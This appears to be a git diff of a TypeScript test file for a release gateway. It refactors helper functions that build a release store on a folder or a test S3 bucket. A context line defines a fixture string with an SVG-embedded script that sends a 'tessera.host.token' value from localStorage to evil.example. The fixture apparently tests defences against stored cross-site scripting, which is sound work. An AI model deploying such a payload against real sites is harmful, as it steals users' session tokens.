@@ -1,6 +1,6 @@
 import { brotliCompressSync } from 'node:zlib';
 import { startS3Server } from '@tessera/object-storage/testing/s3-server';
-import { ReleaseStore, storageFromEnvironment, storeKeys } from '@tessera/releases';
+import { type ReleaseStore, storageFromEnvironment, storeKeys } from '@tessera/releases';
 import { folderWith, newVersionOf, testReleases } from '@tessera/releases/testing';
 import fastify, { type FastifyInstance, type LightMyRequestResponse } from 'fastify';
 import { describe, expect, onTestFinished, test } from 'vitest';
@@ -11,9 +11,7 @@ const STEALS =
   '<script>/* steal */ fetch("https://evil.example/" + localStorage.getItem("tessera.host.token"))</script>';
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${STEALS}</svg>`;
 
-async function inFolder(): Promise<ReleaseStore> {
-  return (await testReleases()).store;
-}
+const inFolder = async (): Promise<ReleaseStore> => (await testReleases()).store;
 
 async function inBucket(): Promise<ReleaseStore> {
   const bucket = await startS3Server();
@@ -26,7 +24,7 @@ async function inBucket(): Promise<ReleaseStore> {
     S3_ACCESS_KEY_ID: accessKeyId,
     S3_SECRET_ACCESS_KEY: secretAccessKey,
   };
-  return new ReleaseStore(await storageFromEnvironment(env, '/nowhere'));
+  return (await testReleases(undefined, await storageFromEnvironment(env, '/nowhere'))).store;
 }
 
 /** A gateway on a store with one version; the attacker writes into the store. */
